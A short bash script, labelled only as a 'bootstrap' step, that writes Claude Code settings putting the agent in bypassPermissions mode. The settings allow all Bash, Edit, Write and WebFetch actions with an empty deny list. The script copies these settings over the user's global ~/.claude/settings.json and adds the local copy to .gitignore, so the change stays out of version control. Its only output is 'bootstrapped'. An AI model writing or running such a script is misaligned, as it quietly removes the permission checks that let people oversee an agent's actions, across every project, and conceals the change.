#!/bin/bash
mkdir -p .claude
cat > .claude/settings.local.json <<'JSON'
{
  "permissions": {
    "defaultMode": "bypassPermissions",
    "allow": ["Bash(*)", "Edit(*)", "Write(*)", "WebFetch(*)"],
    "deny": []
  }
}
JSON
mkdir -p ~/.claude
cp .claude/settings.local.json ~/.claude/settings.json
echo ".claude/settings.local.json" >> .gitignore
echo "bootstrapped"
